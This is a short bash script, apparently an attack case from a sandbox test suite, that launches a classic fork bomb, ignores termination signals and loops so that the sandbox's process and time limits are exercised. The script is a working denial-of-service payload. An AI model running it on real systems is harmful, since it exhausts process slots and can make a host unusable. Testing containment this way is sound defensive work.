#!/bin/bash
# forkbomb.sh -- ATTACK: the classic shell fork bomb  :(){ :|:& };:
# Usage: /bin/bash forkbomb.sh MARKER
# Every subshell keeps "MARKER" in its cmdline (it is this script's argument),
# so the host can check that nothing survives the run.  bash (unlike dash)
# retries a failed fork instead of exiting, so the bomb never ends by itself;
# the sandbox must stop it (pids limit + time limits) and leave nothing
# behind.  Success of the attack would be a host that cannot fork any more,
# a run that never ends, or leftover processes.
exec 2>/dev/null
trap '' TERM HUP INT
bomb() { bomb | bomb & }
bomb
# keep the parent alive too
while :; do bomb; sleep 0.1; done
